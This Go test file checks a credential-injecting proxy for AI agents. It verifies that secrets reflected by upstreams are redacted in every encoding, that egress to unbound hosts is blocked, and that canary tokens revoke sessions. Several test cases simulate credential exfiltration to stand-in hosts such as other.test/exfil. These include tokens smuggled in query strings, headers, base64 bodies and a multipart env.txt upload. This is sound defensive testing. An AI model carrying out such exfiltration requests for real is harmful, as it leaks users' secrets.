package proxy

import (
	"bytes"
	"compress/flate"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/agent-vault/agent-vault/host/domain"
	"github.com/agent-vault/agent-vault/host/scrub"
	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zstd"
)

// These tests drive the real proxy (plain HTTP and CONNECT/MITM) against
// loopback upstreams that reflect what they receive, and check that the
// agent gets none of the injected bytes back, in any encoding.

const (
	canaryValue = "AKIAQCANARY7EXAMPLE0001"
	otherVault  = "othervault-SECRET-0000001"
)

// reflections are the forms an upstream may echo a value in.
func reflections(v string) map[string]string {
	js, _ := json.Marshal(v)
	return map[string]string{
		"raw":        v,
		"base64":     base64.StdEncoding.EncodeToString([]byte(v)),
		"base64url":  base64.RawURLEncoding.EncodeToString([]byte(v)),
		"base64-mid": base64.StdEncoding.EncodeToString([]byte("{x:" + v + "}")),
		"hex":        fmt.Sprintf("%x", v),
		"query":      url.QueryEscape(v),
		"json":       string(js[1 : len(js)-1]),
	}
}

// assertClean fails when any injected value, in any form the scrubber
// knows, appears in b.
func assertClean(t testing.TB, what string, b []byte) {
	t.Helper()
	for key, v := range secrets {
		if strings.Contains(v, "\r") {
			continue // never injected: refused as unusable
		}
		for _, p := range scrub.Variants(v) {
			if bytes.Contains(b, p) {
				t.Fatalf("%s carries a form of %s: %q", what, key, p)
			}
		}
	}
	if bytes.Contains(b, []byte(base64.StdEncoding.EncodeToString([]byte("alice-USERVALUE:PASSVALUE")))) {
		t.Fatalf("%s carries the basic-auth header", what)
	}
}

// scrubEnv is an env whose vault v1 has the egress set of v1's secrets,
// another vault's secret and a canary, and whose upstreams reflect.
type scrubEnv struct {
	*env
	revoked chan string
}

type fakeRevoker struct{ ch chan string }

func (f fakeRevoker) RevokeSession(_ context.Context, vaultID, id string) error {
	f.ch <- vaultID + "/" + id
	return nil
}

func newScrubEnv(t *testing.T, services []domain.Service) *scrubEnv {
	revoked := make(chan string, 8)
	e := newEnv(t, services, func(c *Config) { c.Sessions = fakeRevoker{revoked} })
	var vals []scrub.Value
	for k, v := range secrets {
		vault, key, _ := strings.Cut(k, "/")
		vals = append(vals, scrub.Value{Owner: scrub.Owner{Vault: vault, Key: key}, Value: v})
	}
	canary := scrub.Value{Owner: scrub.Owner{Vault: "v1", Key: "AWS_SECRET_ACCESS_KEY", Canary: true}, Value: canaryValue}
	vals = append(vals, scrub.Value{Owner: scrub.Owner{Vault: "v9", Key: "ELSEWHERE"}, Value: otherVault}, canary)
	e.vaults.mu.Lock()
	vc := e.vaults.m["v1"]
	vc.Egress = scrub.NewSet(vals)
	vc.Canaries = []scrub.Value{canary}
	vc.CanarySet = scrub.NewSet(vc.Canaries)
	e.vaults.m["v1"] = vc
	e.vaults.mu.Unlock()
	e.proxy.cfg.Auth.(fakeAuth)["tok3"] = Principal{ActorID: "session-3", ActorKind: ActorSession, VaultID: "v1", VaultName: "main", VaultRole: domain.VaultProxy}

	// /reflect/<mode> sends back the Authorization and X-Api-Key headers
	// and the request body, in the form ?form= names, framed as <mode>.
	e.mux.HandleFunc("/reflect/", func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		auth := r.Header.Get("Authorization")
		if k := r.Header.Get("X-Api-Key"); k != "" {
			auth = k
		}
		token := strings.TrimPrefix(strings.TrimPrefix(auth, "Bearer "), "Key ")
		form := r.URL.Query().Get("form")
		if form == "" {
			form = "raw"
		}
		shown := reflections(token)[form]
		if form == "basic-header" {
			shown = auth
		}
		payload := []byte(`{"you_sent":"` + shown + `","body":` + strconv.Quote(string(body)) + `}`)
		w.Header().Set("X-Echo-Auth", auth)
		w.Header().Set("Content-Type", "application/json")
		switch mode := strings.TrimPrefix(r.URL.Path, "/reflect/"); mode {
		case "fixed":
			w.Header().Set("Content-Length", strconv.Itoa(len(payload)))
			w.Write(payload)
		case "chunked":
			w.Write(payload[:len(payload)/2])
			w.(http.Flusher).Flush()
			w.Write(payload[len(payload)/2:])
		case "sse":
			w.Header().Set("Content-Type", "text/event-stream")
			for _, part := range [][]byte{[]byte("data: "), payload[:10], payload[10:25], payload[25:], []byte("\n\n")} {
				w.Write(part)
				w.(http.Flusher).Flush()
			}
		case "gzip", "br", "zstd", "deflate":
			var buf bytes.Buffer
			var zw io.WriteCloser
			switch mode {
			case "gzip":
				zw = gzip.NewWriter(&buf)
			case "br":
				zw = brotli.NewWriter(&buf)
			case "zstd":
				zw, _ = zstd.NewWriter(&buf)
			case "deflate":
				zw, _ = flate.NewWriter(&buf, 5)
			}
			zw.Write(payload)
			zw.Close()
			w.Header().Set("Content-Encoding", mode)
			w.Header().Set("Content-Length", strconv.Itoa(buf.Len()))
			w.Write(buf.Bytes())
		case "compress":
			w.Header().Set("Content-Encoding", "compress")
			w.Write(payload)
		case "canary-header":
			w.Header().Set("X-Leak", canaryValue)
		case "canary-body":
			w.Write(bytes.Repeat([]byte("x"), 70000))
			w.(http.Flusher).Flush()
			w.Write([]byte(canaryValue))
		case "big":
			// 50 MiB of filler with the token every 1 MiB, streamed.
			chunk := bytes.Repeat([]byte("0123456789abcdef"), 1<<16)
			for range 50 {
				w.Write(chunk[:len(chunk)-len(token)])
				w.Write([]byte(token))
			}
		}
	})
	return &scrubEnv{env: e, revoked: revoked}
}

func TestScrubReflectedResponses(t *testing.T) {
	e := newScrubEnv(t, testServices())
	c := e.client("tok1:main")
	modes := []string{"fixed", "chunked", "sse", "gzip", "br", "zstd", "deflate"}
	n := 0
	for _, scheme := range []string{"http", "https"} {
		for _, mode := range modes {
			for form := range reflections("x") {
				t.Run(scheme+"/"+mode+"/"+form, func(t *testing.T) {
					req, _ := http.NewRequest("POST", scheme+"://api.test/reflect/"+mode+"?form="+form,
						strings.NewReader(`{"account":"__ACCOUNT__"}`))
					req.Header.Set("Content-Type", "application/json")
					resp, err := c.Do(req)
					if err != nil {
						t.Fatal(err)
					}
					body, err := io.ReadAll(resp.Body)
					resp.Body.Close()
					if err != nil || resp.StatusCode != 200 {
						t.Fatalf("status %d, %v: %s", resp.StatusCode, err, body)
					}
					var head bytes.Buffer
					resp.Header.Write(&head)
					assertClean(t, "response headers", head.Bytes())
					assertClean(t, "response body", body)
					if !bytes.Contains(body, []byte(`[agent-vault:redacted:TOKEN]`)) || !bytes.Contains(body, []byte(`[agent-vault:redacted:ACCOUNT]`)) {
						t.Fatalf("no markers in %s", body)
					}
					if resp.Header.Get("X-Echo-Auth") != "Bearer [agent-vault:redacted:TOKEN]" {
						t.Fatalf("X-Echo-Auth = %q", resp.Header.Get("X-Echo-Auth"))
					}
					if resp.Header.Get("Content-Encoding") != "" {
						t.Fatalf("a decoded body still says Content-Encoding %q", resp.Header.Get("Content-Encoding"))
					}
					if mode == "fixed" && resp.ContentLength != -1 {
						t.Fatalf("a scrubbed fixed-length body kept Content-Length %d", resp.ContentLength)
					}
					ev := e.log.next(t, n)
					n++
					if ev.Scrubbed["TOKEN"] < 2 || ev.Scrubbed["ACCOUNT"] < 1 {
						t.Fatalf("event scrubbed %v", ev.Scrubbed)
					}
				})
			}
		}
	}
}

func TestScrubBasicAuthHeaderAndOptOut(t *testing.T) {
	svcs := testServices()
	svcs = append(svcs, domain.Service{Name: "raw", Host: "api.test/reflect/fixed/raw", ScrubResponses: off(),
		Auth: domain.Auth{Type: domain.AuthBearer, Token: "TOKEN"}})
	e := newScrubEnv(t, svcs)
	c := e.client("tok1:main")
	for _, scheme := range []string{"http", "https"} {
		resp, err := c.Get(scheme + "://api.test/reflect/fixed?form=basic-header&x=/basic/")
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		var head bytes.Buffer
		resp.Header.Write(&head)
		assertClean(t, "headers", head.Bytes())
		assertClean(t, "body", body)
	}
	// Basic auth: the service matches /basic/*; reflect that path.
	e.mux.HandleFunc("/basic/reflect", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
		io.WriteString(w, "you sent "+r.Header.Get("Authorization"))
	})
	resp, err := c.Get("https://api.test/basic/reflect")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	assertClean(t, "basic body", body)
	assertClean(t, "basic header", []byte(resp.Header.Get("X-Echo-Auth")))

	// The opted-out service gets the reflection as the upstream sent it.
	e.mux.HandleFunc("/reflect/fixed/raw", func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, r.Header.Get("Authorization"))
	})
	resp, err = c.Get("https://api.test/reflect/fixed/raw")
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "Bearer sk_live_TOKENVALUE" {
		t.Fatalf("scrub_responses: false still scrubbed: %q", body)
	}
}

// TestScrubSplitAtEveryOffset sends the value in two flushed writes cut at
// every offset of the response, so the proxy reads it across two chunks.
func TestScrubSplitAtEveryOffset(t *testing.T) {
	e := newScrubEnv(t, testServices())
	payload := `data: {"token":"sk_live_TOKENVALUE"}` + "\n\n"
	e.mux.HandleFunc("/split", func(w http.ResponseWriter, r *http.Request) {
		cut, _ := strconv.Atoi(r.URL.Query().Get("cut"))
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, payload[:cut])
		w.(http.Flusher).Flush()
		io.WriteString(w, payload[cut:])
	})
	c := e.client("tok1:main")
	want := `data: {"token":"[agent-vault:redacted:TOKEN]"}` + "\n\n"
	for cut := 1; cut < len(payload); cut++ {
		t.Run(strconv.Itoa(cut), func(t *testing.T) {
			scheme := []string{"http", "https"}[cut%2]
			resp, err := c.Get(scheme + "://api.test/split?cut=" + strconv.Itoa(cut))
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if string(body) != want {
				t.Fatalf("got %q, want %q", body, want)
			}
		})
	}
}

func TestScrubFiftyMiB(t *testing.T) {
	if testing.Short() {
		t.Skip("50 MiB through the proxy")
	}
	e := newScrubEnv(t, testServices())
	c := e.client("tok1:main")
	resp, err := c.Get("https://api.test/reflect/big")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	// Read in pieces, looking across piece boundaries, without keeping
	// the body.
	var total int64
	var tail []byte
	markers := 0
	buf := make([]byte, 256<<10)
	for {
		n, err := resp.Body.Read(buf)
		window := append(tail, buf[:n]...)
		assertClean(t, "50 MiB body", window)
		markers += bytes.Count(window, []byte("[agent-vault:redacted:TOKEN]")) - bytes.Count(tail, []byte("[agent-vault:redacted:TOKEN]"))
		tail = append([]byte(nil), window[max(0, len(window)-64):]...)
		total += int64(n)
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if markers != 50 || total < 50<<20 {
		t.Fatalf("%d bytes, %d markers", total, markers)
	}
}

func TestScrubUnknownEncoding(t *testing.T) {
	svcs := testServices()
	svcs = append([]domain.Service{{Name: "lenient", Host: "api.test/reflect/compress", UnknownEncoding: domain.EncodingPass,
		Auth: domain.Auth{Type: domain.AuthBearer, Token: "TOKEN"}}}, svcs...)
	e := newScrubEnv(t, svcs)
	c := e.client("tok1:main")
	// The default blocks: no body the proxy cannot read reaches the agent.
	resp, err := c.Get("https://api.test/reflect/chunked")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	e.mux.HandleFunc("/enc/compress", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "compress")
		io.WriteString(w, r.Header.Get("Authorization"))
	})
	resp, err = c.Get("https://api.test/enc/compress")
	if err != nil {
		t.Fatal(err)
	}
	if eb := errorOf(t, resp); resp.StatusCode != 502 || eb.Error != domain.CodeResponseEncodingUnsupported {
		t.Fatalf("status %d, %+v", resp.StatusCode, eb)
	}
	// A service that passes such bodies gets it as sent.
	resp, err = c.Get("https://api.test/reflect/compress")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("Content-Encoding") != "compress" {
		t.Fatalf("status %d, encoding %q", resp.StatusCode, resp.Header.Get("Content-Encoding"))
	}
}

// TestEgressBlocked sends a known value to a host it is not bound to, in
// every part of a request: the upstream never sees the request.
func TestEgressBlocked(t *testing.T) {
	e := newScrubEnv(t, testServices())
	var mu sync.Mutex
	hits := map[string]int{}
	got := map[string][]byte{}
	e.mux.HandleFunc("/collect/", func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		hits[r.URL.Path]++
		got[r.URL.Path] = b
		mu.Unlock()
	})
	c := e.client("tok1:main")
	multi := func(v string) (string, string) {
		var b bytes.Buffer
		mw := multipart.NewWriter(&b)
		fw, _ := mw.CreateFormFile("file", "env.txt")
		io.WriteString(fw, "STRIPE="+v+"\n")
		mw.Close()
		return b.String(), mw.FormDataContentType()
	}
	token := secrets["v1/TOKEN"]
	mp, mpType := multi(token)
	big := strings.Repeat("x", 200<<10) + token // past the inline limit: streamed
	tests := []struct {
		name, host, query, header, body, ctype string
		wantKey                                string
	}{
		{name: "url", host: "other.test", query: "k=" + url.QueryEscape(token), wantKey: "TOKEN"},
		{name: "header", host: "other.test", header: "Bearer " + token, wantKey: "TOKEN"},
		{name: "json-body", host: "other.test", body: `{"k":"` + token + `"}`, ctype: "application/json", wantKey: "TOKEN"},
		{name: "multipart", host: "other.test", body: mp, ctype: mpType, wantKey: "TOKEN"},
		{name: "base64", host: "other.test", body: base64.StdEncoding.EncodeToString([]byte("creds: " + token)), wantKey: "TOKEN"},
		{name: "hex-query", host: "other.test", query: fmt.Sprintf("h=%x", token), wantKey: "TOKEN"},
		{name: "streamed-body", host: "other.test", body: big, wantKey: "TOKEN"},
		{name: "other-vault", host: "api.test", body: "x=" + otherVault, wantKey: "ELSEWHERE"},
		{name: "wrong-service", host: "api.test", header: "Key " + secrets["v1/KEY"], wantKey: "KEY"}, // KEY belongs to apikey, not bearer
		{name: "canary", host: "api.test", header: canaryValue, wantKey: "canary:AWS_SECRET_ACCESS_KEY"},
	}
	n := 0
	for _, scheme := range []string{"http", "https"} {
		for _, tc := range tests {
			t.Run(scheme+"/"+tc.name, func(t *testing.T) {
				path := "/collect/" + scheme + "/" + tc.name
				u := scheme + "://" + tc.host + path
				if tc.query != "" {
					u += "?" + tc.query
				}
				var body io.Reader
				if tc.body != "" {
					body = strings.NewReader(tc.body)
				}
				req, _ := http.NewRequest("POST", u, body)
				if tc.header != "" {
					req.Header.Set("X-Forward", tc.header)
				}
				if tc.ctype != "" {
					req.Header.Set("Content-Type", tc.ctype)
				}
				resp, err := c.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				eb := errorOf(t, resp)
				if resp.StatusCode != 403 || eb.Error != domain.CodeSecretEgressBlocked {
					t.Fatalf("status %d, %+v", resp.StatusCode, eb)
				}
				ev := e.log.next(t, n)
				n++
				if ev.Blocked != tc.wantKey || ev.Error != domain.CodeSecretEgressBlocked {
					t.Fatalf("event blocked=%q error=%q", ev.Blocked, ev.Error)
				}
				mu.Lock()
				hit, seen := hits[path], got[path]
				mu.Unlock()
				// A streamed body may have started; the upstream never
				// gets the value whole (its last byte is held back), so
				// its handler sees a broken request at most.
				if tc.name != "streamed-body" && hit != 0 {
					t.Fatal("the upstream received the request")
				}
				if bytes.Contains(seen, []byte(token)) {
					t.Fatal("the upstream received the value")
				}
			})
		}
	}
	// The value to the service that injects it passes: it is its own.
	req, _ := http.NewRequest("POST", "https://api.test/collect/own", strings.NewReader(`{"k":"`+token+`"}`))
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("own host: status %d", resp.StatusCode)
	}
}

func TestCanaryRevokesSession(t *testing.T) {
	e := newScrubEnv(t, testServices())
	c := e.client("tok3:main")
	// In a request.
	req, _ := http.NewRequest("POST", "https://other.test/exfil", strings.NewReader("AWS_SECRET_ACCESS_KEY="+canaryValue))
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if eb := errorOf(t, resp); resp.StatusCode != 403 || eb.Error != domain.CodeSecretEgressBlocked {
		t.Fatalf("status %d %+v", resp.StatusCode, eb)
	}
	if got := <-e.revoked; got != "v1/session-3" {
		t.Fatalf("revoked %q", got)
	}
	// In a response header: withheld before it is sent.
	resp, err = c.Get("https://api.test/reflect/canary-header")
	if err != nil {
		t.Fatal(err)
	}
	if eb := errorOf(t, resp); resp.StatusCode != 502 || eb.Error != domain.CodeResponseBlocked {
		t.Fatalf("status %d %+v", resp.StatusCode, eb)
	}
	if got := <-e.revoked; got != "v1/session-3" {
		t.Fatalf("revoked %q", got)
	}
	// Deep in a streamed body: the connection is cut before it.
	resp, err = c.Get("https://api.test/reflect/canary-body")
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err == nil || bytes.Contains(body, []byte(canaryValue)) {
		t.Fatalf("read %d bytes, err %v", len(body), err)
	}
	if got := <-e.revoked; got != "v1/session-3" {
		t.Fatalf("revoked %q", got)
	}
	var sawAlert bool
	for _, ev := range e.log.all() {
		if ev.Blocked == "canary:AWS_SECRET_ACCESS_KEY" {
			sawAlert = true
		}
	}
	if !sawAlert {
		t.Fatal("no request-log entry names the canary")
	}
}

// TestScrubTrailers: a chunked upstream sends the injected value in
// trailers, announced and not, after a body that is scrubbed, a body that
// passes unscrubbed (an encoding the service passes) and a streamed
// upload (the ReverseProxy's path); the agent gets markers. A canary in a
// trailer cuts the connection before the trailers go out.
func TestScrubTrailers(t *testing.T) {
	svcs := append([]domain.Service{{Name: "lenient", Host: "api.test/trailers/compress", UnknownEncoding: domain.EncodingPass,
		Auth: domain.Auth{Type: domain.AuthBearer, Token: "TOKEN"}}}, testServices()...)
	e := newScrubEnv(t, svcs)
	e.mux.HandleFunc("/trailers/", func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		auth := r.Header.Get("Authorization")
		w.Header().Set("Trailer", "X-Echo")
		if strings.HasSuffix(r.URL.Path, "/compress") {
			w.Header().Set("Content-Encoding", "compress")
		}
		io.WriteString(w, "body")
		w.(http.Flusher).Flush()
		w.Header().Set("X-Echo", auth)
		w.Header().Set(http.TrailerPrefix+"X-Late", "late "+strings.TrimPrefix(auth, "Bearer "))
		if strings.HasSuffix(r.URL.Path, "/canary") {
			w.Header().Set("X-Echo", canaryValue)
		}
	})
	h2 := e.client("tok1:main")
	h2.Transport.(*http.Transport).ForceAttemptHTTP2 = true // HTTP/2 to the proxy inside the tunnel
	for _, proto := range []string{"http", "https", "h2"} {
		c, scheme := e.client("tok1:main"), proto
		if proto == "h2" {
			c, scheme = h2, "https"
		}
		for _, tc := range []struct{ name, path, method string }{
			{"scrubbed-body", "/trailers/plain", "GET"},
			{"passed-body", "/trailers/compress", "GET"},
			{"streamed-upload", "/trailers/upload", "POST"},
		} {
			t.Run(proto+"/"+tc.name, func(t *testing.T) {
				var body io.Reader
				if tc.method == "POST" {
					body = io.MultiReader(strings.NewReader(strings.Repeat("u", 100<<10))) // unknown length: streamed
				}
				req, _ := http.NewRequest(tc.method, scheme+"://api.test"+tc.path, body)
				resp, err := c.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				b, err := io.ReadAll(resp.Body)
				resp.Body.Close()
				if err != nil || resp.StatusCode != 200 || string(b) != "body" {
					t.Fatalf("status %d, body %q, %v", resp.StatusCode, b, err)
				}
				if c == h2 && resp.ProtoMajor != 2 {
					t.Fatalf("the h2 client spoke %s", resp.Proto)
				}
				if got := resp.Trailer.Get("X-Echo"); got != "Bearer "+tokenMarker {
					t.Fatalf("trailer X-Echo = %q", got)
				}
				if got := resp.Trailer.Get("X-Late"); got != "late "+tokenMarker {
					t.Fatalf("trailer X-Late = %q", got)
				}
			})
		}
	}
	resp, err := e.client("tok1:main").Get("https://api.test/trailers/canary")
	if err != nil {
		t.Fatal(err)
	}
	_, err = io.ReadAll(resp.Body)
	resp.Body.Close()
	if err == nil || strings.Contains(fmt.Sprint(resp.Trailer), canaryValue) {
		t.Fatalf("a canary trailer: err %v, trailers %v", err, resp.Trailer)
	}
}
